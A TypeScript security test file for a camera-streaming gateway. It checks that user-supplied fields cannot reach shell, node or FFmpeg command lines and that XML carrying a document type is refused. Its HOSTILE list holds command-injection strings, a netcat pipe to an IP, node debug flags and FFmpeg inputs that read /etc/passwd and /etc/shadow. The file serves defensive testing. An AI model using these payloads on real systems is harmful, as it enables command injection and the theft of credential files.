import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'chai';
import fc from 'fast-check';
import { AppError } from '#shared/errors.ts';
import { clientMessageSchema, mjpegQuerySchema, snapshotQuerySchema } from '#shared/frames/subscription.ts';
import { guardSoap } from '../../workers/rtsp/onvif/soap-guard.ts';
import type { RtspServer } from '../../workers/simulator/server/rtsp-server.ts';
import { getJson, postJson } from '../support/http.ts';
import { childrenOf, type RunningProcess, startGateway } from '../support/processes.ts';
import { ROOT, type SourceFile, sourceFiles } from '../support/source-files.ts';
import { openTestCameras } from '../support/test-clip.ts';
import { waitFor } from '../support/wait-for.ts';

/** Text that means something to a shell, to node or to FFmpeg, were it to reach one. */
const HOSTILE = [
  '; touch /tmp/owned',
  '$(id)',
  '`id`',
  '| nc 10.0.0.9 1',
  '--inspect=0.0.0.0:9229',
  '--require=/tmp/x.js',
  '-i /etc/passwd',
  'concat:/etc/passwd|/etc/shadow',
  'file:/etc/passwd',
  'scale=1:1,movie=/etc/passwd',
  '640:360,drawtext=textfile=/etc/passwd',
  '\u0000',
  '\n-vf',
  '1e999',
  '0x10',
  '[in]',
];
const files = sourceFiles();

/** Files that import something, or have it in their text. */
function users(pattern: RegExp, of: (file: SourceFile) => readonly string[]): string[] {
  return files.filter((file) => of(file).some((text) => pattern.test(text))).map(({ path }) => path);
}
const imports = ({ imports: names }: SourceFile) => names;
const text = ({ text: source }: SourceFile) => [source];

describe('S13: what a user writes', () => {
  it('reaches no command: three files start processes, and the supervisor knows no camera', () => {
    expect(users(/^(node:)?(cluster|vm|repl)$|^(shelljs|cross-spawn|execa|zx)$/, imports)).to.deep.equal([]);
    expect(users(/^(node:)?child_process$/, imports)).to.deep.equal([
      'gateway/supervisor/process-identity.ts',
      'gateway/supervisor/worker-process.ts',
      'workers/rtsp/probe/probe-process.ts',
    ]);
    expect(users(/\beval\(|new Function\(|process\.binding\(/, text)).to.deep.equal([]);
    const supervisor = files.filter(({ path }) => path.startsWith('gateway/supervisor/'));
    expect(supervisor.flatMap(imports).filter((name) => /camera|\/cameras\//.test(name))).to.deep.equal([]);
  });

  it('reaches FFmpeg as whole numbers within bounds, for every input', () => {
    const hostile = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.string(),
      fc.string({ unit: 'binary' }),
      fc.double(),
    );
    const field = fc.option(hostile, { nil: undefined });
    const request = fc.record({ width: field, quality: field, fps: field, cameraId: field });
    fc.assert(
      fc.property(request, (fields) => {
        const parsed = [
          snapshotQuerySchema.safeParse(fields).data,
          mjpegQuerySchema.safeParse(fields).data,
          clientMessageSchema.safeParse({ ...fields, action: 'subscribe' }).data,
        ];
        for (const accepted of parsed as ({ width?: unknown; quality?: unknown } | undefined)[]) {
          for (const number of [accepted?.width ?? 16, accepted?.quality ?? 1])
            if (!Number.isInteger(number) || (number as number) < 1 || (number as number) > 7680)
              return false;
        }
        return true;
      }),
      { numRuns: 10_000 },
    );
  });

  it('has FFmpeg open nothing but a file of ours, without any other protocol', () => {
    const openers = users(/\.openInput\(|Demuxer\.open\(|\bavio/i, text);
    expect(openers.filter((path) => !/^workers\/\w+\/(ffmpeg|source)\//.test(path))).to.deep.equal([]);
    const opening = files.filter(({ text: source }) => /\.openInput\(/.test(source));
    expect(opening.map(({ path }) => path)).to.deep.equal(['workers/rtsp/ffmpeg/video-file.ts']);
    expect(opening[0]?.text)
      .to.include('protocol_whitelist')
      .and.to.match(/openInput\(`file:\$\{file\}`, null,/);
  });

  describe('in a running gateway', function () {
    this.timeout(60_000);
    let cameras: RtspServer;
    let gateway: RunningProcess;

    before(async () => {
      cameras = await openTestCameras(['/1']);
      gateway = await startGateway({ RTSP_WORKERS: '1', DEMO_CAMERAS: 'on' });
      await waitFor(async () => (await getJson(`${gateway.origin}/readyz`)).status === 200, {
        timeoutMs: 30_000,
      });
    });
    after(async () => {
      await gateway?.end();
      await cameras.close();
    });

    it('is on no command line: they are made of fixed words', async () => {
      const api = `${gateway.origin}/api/cameras`;
      for (const [index, hostile] of HOSTILE.entries()) {
        const fields = {
          ip: '127.0.0.1',
          port: cameras.port,
          username: hostile,
          password: hostile,
          name: hostile,
        };
        await postJson(api, { ...fields, id: `c${index}`, streamPath: `/${hostile}` });
        await getJson(`${api}/c${index}/frame?width=${encodeURIComponent(hostile)}`);
      }
      expect((await getJson(api)).body.length).to.be.greaterThan(HOSTILE.length / 2);
      const commands = childrenOf(gateway.pid).map(commandOf);
      expect(commands).to.not.be.empty;
      for (const command of commands)
        expect(command.join(' ')).to.match(
          /^(?:setpriv --pdeathsig KILL )?\S*node(?: --[a-z-]+(?:=\d+)?)* \S*\/workers\/\w+\/main\.ts$/,
        );
      const further = childrenOf(gateway.pid).flatMap(childrenOf).map(commandOf);
      expect(further, 'workers start nothing').to.deep.equal([]);
    });
  });
});

function commandOf(pid: number): string[] {
  return readFileSync(`/proc/${pid}/cmdline`, 'utf8')
    .split('\0')
    .filter((word) => word !== '');
}

describe('S24: XML', () => {
  interface Lock {
    packages: Record<string, { dev?: boolean }>;
  }

  it('is parsed behind one door: its parsers come with onvif alone', () => {
    const lock = JSON.parse(readFileSync(join(ROOT, 'package-lock.json'), 'utf8')) as Lock;
    const names = Object.entries(lock.packages)
      .filter(([, { dev }]) => dev !== true)
      .map(([path]) => path.replace(/^.*node_modules\//, ''));
    expect(
      names.filter((name) => /xml|\bsax|saxes|soap|onvif|jsdom|cheerio|parse5|libxslt/i.test(name)).sort(),
    ).to.deep.equal(['onvif', 'sax', 'xml2js', 'xmlbuilder']);
  });

  it('is spoken by ONVIF only', () => {
    const speakers = users(/application\/(?:soap\+)?xml|DOMParser|<\?xml/i, text);
    // The simulator writes answers, and reads requests of this gateway alone.
    const isOnvif = /^workers\/(?:rtsp\/onvif|simulator\/ptz)\//;
    expect(speakers.filter((path) => !isOnvif.test(path))).to.deep.equal([]);
  });

  it('is refused with a document type before a parser sees it', () => {
    const bomb = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>';
    expect(() => guardSoap(bomb)).to.throw(AppError, 'document type');
  });
});
